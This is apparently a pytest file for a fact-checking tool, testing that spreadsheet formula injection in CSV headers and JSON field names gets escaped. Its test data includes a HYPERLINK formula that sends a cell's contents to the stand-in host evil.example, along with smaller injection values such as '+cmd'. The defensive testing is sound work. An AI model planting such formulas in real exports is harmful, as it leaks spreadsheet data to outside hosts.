"""Hostile report input and arguments (issue 14): formulas in column names, reports that
would overwrite their claims, `-k` values the search refuses."""

from __future__ import annotations

import csv
from pathlib import Path

from factcheck.report.run import run_report
from factcheck.settings import Settings

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


class UnsupportedSearcher:
    """Finds every claim `unsupported`."""

    settings = Settings(model="hash-test")

    def search_many(self, claims, k=5):
        return [{"claim": c, "claimed_speaker": s, "verdict": "unsupported", "partial": False,
                 "confidence": 0.0, "attribution": None, "earliest": None, "appearances": [],
                 "matches": [], "provenance": {}} for c, s in claims]


# --- defect 9: a formula as a column name ------------------------------------------------------


def test_extra_column_names_are_neutralised_in_the_csv_header(tmp_path: Path):
    claims = tmp_path / "claims.csv"
    with claims.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["claim", FORMULA, "+cmd", "desk"], ["A claim", "=1+1", "x", "y"]])
    out = tmp_path / "out.csv"
    run_report(claims, out, UnsupportedSearcher())
    with out.open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    assert header[-3:] == ["'" + FORMULA, "'+cmd", "desk"]
    assert row[-3:] == ["'=1+1", "x", "y"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)


def test_extra_json_field_names_are_neutralised_in_the_csv_header(tmp_path: Path):
    claims = tmp_path / "claims.jsonl"
    claims.write_text('{"claim": "A claim", "@SUM(1)": "v"}\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    run_report(claims, out, UnsupportedSearcher())
    with out.open(encoding="utf-8", newline="") as f:
        header, row = list(csv.reader(f))
    assert (header[-1], row[-1]) == ("'@SUM(1)", "v")
